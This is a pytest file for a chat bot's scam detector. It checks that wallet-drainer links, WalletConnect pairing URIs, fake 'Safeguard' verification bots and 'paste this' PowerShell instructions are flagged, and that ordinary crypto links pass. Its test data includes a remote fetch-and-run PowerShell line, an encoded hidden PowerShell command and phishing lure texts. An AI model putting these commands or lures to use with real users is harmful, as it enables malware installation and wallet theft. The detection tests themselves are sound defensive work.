"""Scam links and texts beyond lookalikes: flagged with their own rule when the link guard is on."""
from __future__ import annotations

import pytest

from bot.safety import scan
from bot.safety.scams import find_scam


def rule(text: str, allowed) -> str | None:
    f = scan(text, allowed, link_guard=True)
    return f.rule if f is not None else None


def test_walletconnect_pairing_uri(allowed):
    """A WalletConnect v2 pairing URI posted in chat is flagged."""
    uri = "wc:" + "ab" * 32 + "@2?relay-protocol=irn&symKey=" + "cd" * 32
    assert rule("scan this to fix your wallet " + uri, allowed) == "walletconnect-uri"


@pytest.mark.parametrize("text", [
    "go to https://dapps-rectify.net and validate your wallet", "sync your wallet here: walletsync.app",
    "claim your airdrop at https://bnb-rewards.xyz/claim", "https://multichain-restore.live",
    "migrate your tokens on tokenmove.io now",
])
def test_validate_sync_claim_pages_on_other_domains(text, allowed):
    """"Validate / sync / rectify / claim your wallet" pages on domains not allowed are flagged."""
    assert rule(text, allowed) == "wallet-drainer-page"


def test_the_same_words_with_an_allowed_site_pass(allowed):
    """"Claim" or "migrate" pointing at an allowed site is not a drainer page."""
    assert rule("migrate your tokens on https://www.bnbchain.org/en/bnb-chain-bridges", allowed) is None


@pytest.mark.parametrize("text", [
    "Verify you are human: t.me/SafeguardRobot", "tap to verify https://t.me/safeguard_verify_bot?start=1",
    "t.me/CaptchaGuardBot", "To join the chat complete verification at t.me/GroupShieldBot",
])
def test_fake_verification_bots(text, allowed):
    """t.me links to bots posing as verification ("Safeguard", captcha) bots are flagged."""
    assert rule(text, allowed) == "fake-verify-bot"


@pytest.mark.parametrize("text", [
    "Press Win+R, paste the code and press Enter to verify you are human",
    "open powershell and paste this: iex (iwr 'https://cdn-check.xyz/v.ps1')",
    "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
    "Windows key + R, then Ctrl+V and Enter",
])
def test_paste_this_commands(text, allowed):
    """PowerShell / Win+R "paste this" instructions are flagged."""
    assert rule(text, allowed) == "paste-command"


@pytest.mark.parametrize("text", [
    "check your tx on https://bscscan.com/tx/0x" + "ab" * 32, "use https://chainlist.org to add BSC",
    "revoke approvals at https://revoke.cash", "official channel t.me/BNBchain",
    "connect your wallet to pancakeswap.finance and swap", "run npm install ethers then node script.js",
    "you need to verify your account on binance.com before withdrawing",
])
def test_ordinary_messages_with_links_pass(text, allowed):
    """Helpful messages with real links, and ordinary commands, are not scams."""
    assert rule(text, allowed) is None


def test_only_with_the_link_guard_on(allowed):
    """Like lookalike links, scam findings come only when the chat has the link guard on."""
    assert scan("sync your wallet here: walletsync.app", allowed) is None


def test_a_secret_wins_over_a_scam_link(allowed):
    """A message with a phrase and a scam link is a secret first (deleted)."""
    text = ("validate at walletsync.app: abandon abandon abandon abandon abandon abandon abandon abandon "
            "abandon abandon abandon about")
    assert scan(text, allowed, link_guard=True).action == "delete"


def test_the_finding_names_a_reason_not_the_link():
    """The detail is a short reason; the link itself is never in the finding."""
    f = find_scam("sync your wallet here: walletsync.app")
    assert f is not None and "walletsync" not in repr(f) and f.detail


def test_the_warning_names_the_scam(engine, allowed):
    """The engine's link notice for a scam finding says what it is, not "imitation of an official site"."""
    from bot.core.render import render_text

    f = scan("Press Win+R, paste the code and press Enter", allowed, link_guard=True)
    text = render_text(engine.link_notice(f), "plain")
    assert "PowerShell" in text and "imitat" not in text


@pytest.mark.parametrize("text", ["\x00\x01", "🙂" * 5000, "ab" * 50_000, "wc:" + "a" * 100_000,
                                  "http://" + "a." * 20_000, "t.me/" * 10_000])
def test_odd_input_is_handled(text, allowed):
    """Huge, binary and odd text gives an answer, not an exception."""
    f = find_scam(text, allowed)
    assert f is None or f.action == "link"
